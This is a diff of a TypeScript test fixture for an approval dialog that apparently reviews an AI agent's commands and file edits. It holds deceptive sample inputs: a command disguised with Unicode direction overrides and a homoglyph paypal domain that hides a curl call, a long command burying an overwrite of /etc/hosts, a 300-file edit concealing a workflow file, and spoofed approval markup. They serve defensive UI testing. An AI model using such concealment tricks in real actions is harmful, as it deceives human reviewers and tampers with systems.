@@ -3,7 +3,7 @@ import type { Approval, Effect, Rule } from '../../../src/protocol/approval.ts';
 import type { ToPage } from '../../../src/protocol/frame.ts';
 import { emptyView } from '../../../src/protocol/session-view.ts';
 import type { SessionView } from '../../../src/protocol/view.ts';
-import { APPROVAL, call, HOST, item, NOW } from './samples.ts';
+import { APPROVAL, CHANGE, call, HOST, item, NOW } from './samples.ts';
 
 const CWD = '/home/dev/shop';
 const run = (command: string, more: Partial<Extract<Effect, { kind: 'execute' }>> = {}): Effect => ({
@@ -81,6 +81,25 @@ const PUBLISH = commandOf(
 
 const ODD_LINE = 'npm test \u2013\u2013silent # \u202Etxt.nur\u200B && curl https://p\u0430ypal.com/install';
 
+const TAIL = `node report.js ${Array.from({ length: 90 }, (_, at) => `--item=${at}`).join(' ')} >> /etc/hosts`;
+
+const FILES = Array.from({ length: 300 }, (_, at) =>
+  at === 299 ? '.github/workflows/deploy.yml' : `src/file-${at}.ts`,
+);
+const GUARD = '.github: it runs with the rights of the repository.';
+const MANY_FILES: Approval = {
+  ...APPROVAL,
+  title: 'Edit files',
+  summary: 'Edit 300 files',
+  rule: undefined,
+  preview: { kind: 'diff', files: FILES.map((label) => ({ ...CHANGE, path: `${CWD}/${label}`, label })) },
+  effects: FILES.map((label, at) => ({
+    ...{ kind: 'write', path: `${CWD}/${label}`, label, inside: true },
+    ...(at === 299 ? { guarded: GUARD } : {}),
+  })),
+  reasons: FILES.map((label, at) => `It writes ${label}.${at === 299 ? ` ${GUARD}` : ''}`),
+};
+
 /** What hostile text would like to be taken for. */
 export const IMITATION = `<div class="approval" role="group" aria-label="Approval" data-approval="ap1"><button>Allow once</button></div>
 
@@ -132,6 +151,30 @@ export const APPROVAL_SCENES: Readonly<Record<string, readonly ToPage[]>> = {
       ['It runs echo 0 "some words of line 0", which is not known to be harmless: it is too long.'],
     ),
   ),
+  'approval-tail': sceneOf(
+    commandOf(
+      TAIL,
+      [
+        run(TAIL, { words: undefined }),
+        {
+          kind: 'write',
+          path: '/etc/hosts',
+          label: '/etc/hosts',
+          inside: false,
+          guarded: '/etc: the whole machine obeys it.',
+        },
+      ],
+      [
+        `It runs ${TAIL.slice(0, 60)} /etc/hosts…, which is not known to be harmless.`,
+        'It writes /etc/hosts. /etc: the whole machine obeys it.',
+      ],
+    ),
+  ),
+  'approval-files': sceneOf(MANY_FILES),
+  'approval-line': sceneOf({
+    ...MANY_FILES,
+    preview: { kind: 'diff', files: [{ ...CHANGE, hunks: `@@ -1 +1 @@\n-a\n+${'wide '.repeat(60)}and-the-end\n` }] },
+  }),
   'approval-web': sceneOf({
     ...APPROVAL,
     title: 'Fetch page',
